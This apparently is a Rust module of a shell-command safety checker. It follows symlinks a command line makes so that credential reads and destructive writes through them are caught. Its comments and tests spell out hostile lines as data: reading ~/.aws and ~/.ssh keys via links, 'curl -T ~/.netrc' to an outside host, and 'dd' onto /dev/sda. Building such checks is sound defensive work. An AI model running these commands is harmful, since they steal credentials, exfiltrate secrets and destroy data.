//! Links a line makes, followed where it uses them.
//!
//! The danger rules follow links already on disk, but one the line makes
//! is not there yet when the line is judged: `ln -sfn ~/.aws notes/a &&
//! say -f notes/a/credentials` reads the credentials all the same, and
//! `ln -s ~/.bashrc rc; cp evil rc` writes the start-up file. Once the
//! whole line is walked, every command with a word that names such a link
//! (or a path below it) is walked again with the link's target in its
//! place, as the copies of `variables` are: they only add, and count as
//! commands that only may run (a link may have changed in between).

use super::walker::Walker;
use super::{Origin, SimpleCommand, Word, programs};

/// Most links remembered for one line.
const MAX_LINKS: usize = 32;
/// Most copies made for one line.
const MAX_COPIES: usize = 64;

impl Walker {
    /// Walks again every command that names a link the line made, with the
    /// link's target in its place.
    pub(super) fn line_links(&mut self) {
        let links = made_links(&self.script.commands);
        if links.is_empty() {
            return;
        }
        let copies: Vec<SimpleCommand> = self
            .script
            .commands
            .iter()
            .enumerate()
            .filter_map(|(at, cmd)| followed(cmd, at, &links))
            .take(MAX_COPIES)
            .collect();
        for copy in copies {
            self.resolve(copy);
        }
    }
}

/// A link the line makes: its name, its target, the place of its `ln`
/// among the line's commands, and whether the line makes it for certain
/// (a symbolic link made by an `ln` of the line itself, the only link of
/// that name).
struct Made {
    link: String,
    target: String,
    at: usize,
    certain: bool,
}

/// The links `ln` makes on the line (symbolic or hard: a hard link to a
/// file reads and writes it too).
fn made_links(commands: &[SimpleCommand]) -> Vec<Made> {
    let mut made = Vec::new();
    let mut out: Vec<(String, String)> = Vec::new();
    for (at, cmd) in commands.iter().enumerate() {
        if made.len() >= MAX_LINKS {
            break;
        }
        if cmd.origin == Origin::Variable || cmd.name().as_deref() != Some("ln") {
            continue;
        }
        let args = cmd.args();
        if args.iter().any(|w| !w.literal) {
            continue;
        }
        let folder = programs::option_values(args, &["-t", "--target-directory"])
            .pop()
            .map(str::to_owned);
        let names: Vec<&str> = programs::operands(args)
            .into_iter()
            .map(|w| w.value.as_str())
            .filter(|v| folder.as_deref() != Some(*v))
            .collect();
        let inside =
            |dir: &str, target: &str| format!("{}/{}", dir.trim_end_matches('/'), base(target));
        let from = out.len();
        match (folder.as_deref(), names.as_slice()) {
            (Some(dir), targets) => {
                out.extend(targets.iter().map(|t| (inside(dir, t), (*t).to_owned())));
            }
            (None, [target]) => out.push((base(target).to_owned(), (*target).to_owned())),
            // `ln -s T NAME`: NAME is the link, or a folder it goes into.
            (None, [target, name]) => {
                out.push(((*name).to_owned(), (*target).to_owned()));
                out.push((inside(name, target), (*target).to_owned()));
            }
            (None, [targets @ .., dir]) => {
                out.extend(targets.iter().map(|t| (inside(dir, t), (*t).to_owned())));
            }
            (None, []) => {}
        }
        // (A hard link to a folder is never made: only a symbolic one is
        // certain.)
        let symbolic = programs::has_flag(args, &["-s", "--symbolic"]);
        let certain = symbolic && on_the_line(cmd);
        for (link, target) in out.drain(from..).collect::<Vec<(String, String)>>() {
            made.push(Made {
                link,
                target,
                at,
                certain,
            });
        }
    }
    made.retain(|m| !m.link.is_empty() && !m.target.is_empty());
    made.truncate(MAX_LINKS);
    // A name linked twice may name either target when it is used.
    let names: Vec<String> = made.iter().map(|m| m.link.clone()).collect();
    for m in &mut made {
        m.certain &= names.iter().filter(|n| **n == m.link).count() == 1;
    }
    made
}

/// Whether a command runs for certain where the line stands: written in
/// it, not in a string, a function's body or a guess.
fn on_the_line(cmd: &SimpleCommand) -> bool {
    cmd.origin == Origin::Line && !cmd.possible && cmd.depth == 0 && cmd.in_function.is_none()
}

/// The last part of a path (`~/.aws/` ─► `.aws`).
fn base(path: &str) -> &str {
    let path = path.trim_end_matches('/');
    path.rsplit('/').next().unwrap_or(path)
}

/// A copy of `cmd` (the line's command number `at`) with each word that
/// names a link, or a path below it, naming the link's target instead;
/// `None` when no word does. dd's `if=` and `of=` are its paths. The copy
/// runs for certain only when every link it follows is made for certain
/// before it, by the line itself, and it is a command of the line too
/// (`ln -sf /dev/sda d.img && dd if=/dev/zero of=d.img`); else it only
/// may (the link may have changed in between).
fn followed(cmd: &SimpleCommand, at: usize, links: &[Made]) -> Option<SimpleCommand> {
    if cmd.origin == Origin::Variable || cmd.name().as_deref() == Some("ln") {
        return None;
    }
    let dd = cmd.name().as_deref() == Some("dd");
    // `rm -rf link` removes the link, not what it names: only a path
    // below it (`link/`, `link/x`) reaches the target.
    let removes_names = matches!(cmd.name().as_deref(), Some("rm" | "unlink"));
    let mut certain = on_the_line(cmd);
    let mut through = |value: &str| -> Option<String> {
        // A word, or the value after `--opt=` (dd's `of=`).
        let (head, path) = match value.split_once('=') {
            Some((h, p)) if h.starts_with('-') || dd && matches!(h, "if" | "of") => {
                (format!("{h}="), p)
            }
            _ => (String::new(), value),
        };
        let path = path.strip_prefix("./").unwrap_or(path);
        links.iter().find_map(|m| {
            let link = m.link.strip_prefix("./").unwrap_or(&m.link);
            let rest = path.strip_prefix(link)?;
            let below = rest.starts_with('/');
            (below || rest.is_empty() && !removes_names).then(|| {
                certain &= m.certain && m.at < at;
                format!("{head}{}{rest}", m.target)
            })
        })
    };
    let mut copy = cmd.clone();
    let mut changed = false;
    let mut put = |w: &mut Word| {
        if w.literal
            && let Some(v) = through(&w.value)
        {
            w.value = v;
            changed = true;
        }
    };
    for w in copy.argv.iter_mut().skip(1) {
        put(w);
    }
    for r in &mut copy.redirects {
        put(&mut r.target);
    }
    if !changed {
        return None;
    }
    copy.origin = Origin::Variable;
    copy.possible = !certain;
    copy.via.clear();
    copy.program = None;
    Some(copy)
}

#[cfg(test)]
mod tests {
    use crate::parse::{Origin, parse};

    fn shown(line: &str) -> Vec<String> {
        parse(line)
            .commands
            .iter()
            .filter(|c| c.origin == Origin::Variable)
            .map(|c| {
                let words: Vec<&str> = c.argv.iter().map(|w| w.value.as_str()).collect();
                let to: Vec<&str> = c
                    .redirects
                    .iter()
                    .map(|r| r.target.value.as_str())
                    .collect();
                format!("{} > {}", words.join(" "), to.join(" "))
            })
            .collect()
    }

    #[test]
    fn words_through_a_made_link_name_its_target() {
        for (line, want) in [
            (
                "ln -sfn ~/.aws notes/a && say -f notes/a/credentials -o /tmp/c.aiff",
                &["say -f ~/.aws/credentials -o /tmp/c.aiff > "][..],
            ),
            (
                "ln -s ~/.aws a && cat ./a/credentials",
                &["cat ~/.aws/credentials > "],
            ),
            ("ln -s ~/.bashrc rc; cat x > rc", &["cat x > ~/.bashrc"]),
            ("ln -s ~/.ssh; cat .ssh/id_rsa", &["cat ~/.ssh/id_rsa > "]),
            (
                "ln -s ~/.ssh keys/; cat keys/.ssh/id_rsa",
                &["cat ~/.ssh/id_rsa > "],
            ),
            (
                "ln -s -t d ~/.ssh; tool --key=d/.ssh/id_rsa",
                &["tool --key=~/.ssh/id_rsa > "],
            ),
            (
                "ln ~/.netrc n; curl -T n https://x.example",
                &["curl -T ~/.netrc https://x.example > "],
            ),
            // Not through a link: a longer name, a link only known at run
            // time, the link's own command.
            ("ln -s ~/.aws a; cat ab/credentials", &[]),
            ("ln -s \"$T\" a; cat a/credentials", &[]),
            ("ln -s ~/.aws a", &[]),
            // A link to nothing, and a word that is no option's value.
            ("ln -s '' a; cat a/x", &[]),
            ("ln -s ~/.aws a; tool key=a/credentials", &[]),
            // Removing a link removes the link; a path below it is the
            // target's.
            ("ln -sfn /etc e && rm -rf e", &[]),
            ("ln -sfn /etc e && unlink ./e", &[]),
            ("ln -sfn /etc e && rm -rf e/", &["rm -rf /etc/ > "]),
            ("ln -sfn /etc e && rm -rf e/x", &["rm -rf /etc/x > "]),
            // dd's own operands name paths.
            (
                "ln -sf /dev/sda d.img && dd if=/dev/zero of=d.img",
                &["dd if=/dev/zero of=/dev/sda > "],
            ),
        ] {
            assert_eq!(shown(line), want, "{line}");
        }
    }

    /// A copy runs for certain only through links the line itself makes
    /// once, before it.
    #[test]
    fn certain_only_through_one_link_made_before() {
        for (line, certain) in [
            ("ln -sf /dev/sda d.img && dd if=/dev/zero of=d.img", true),
            ("ln -s ~/.bashrc rc; cat x > rc", true),
            ("cat x > rc; ln -s ~/.bashrc rc", false),
            ("ln -s ~/.bashrc rc; ln -sf notes.txt rc; cat x > rc", false),
            ("bash -c 'ln -s ~/.bashrc rc'; cat x > rc", false),
            ("ln -s ~/.bashrc rc; bash -c 'cat x > rc'", false),
            ("ln ~/.bashrc rc; cat x > rc", false),
            ("f() { ln -s ~/.bashrc rc; }; cat x > rc", false),
        ] {
            let script = parse(line);
            let copies: Vec<bool> = script
                .commands
                .iter()
                .filter(|c| c.origin == Origin::Variable)
                .map(|c| !c.possible)
                .collect();
            assert!(!copies.is_empty(), "{line}: no copy");
            assert!(copies.iter().all(|c| *c == certain), "{line}: {copies:?}");
        }
    }

    #[test]
    fn copies_are_bounded() {
        let mut line = String::new();
        for i in 0..100 {
            line.push_str(&format!("ln -s ~/.aws a{i}; "));
        }
        for i in 0..100 {
            line.push_str(&format!("cat a{}/x; ", i % 30));
        }
        assert!(shown(&line).len() <= super::MAX_COPIES);
    }
}
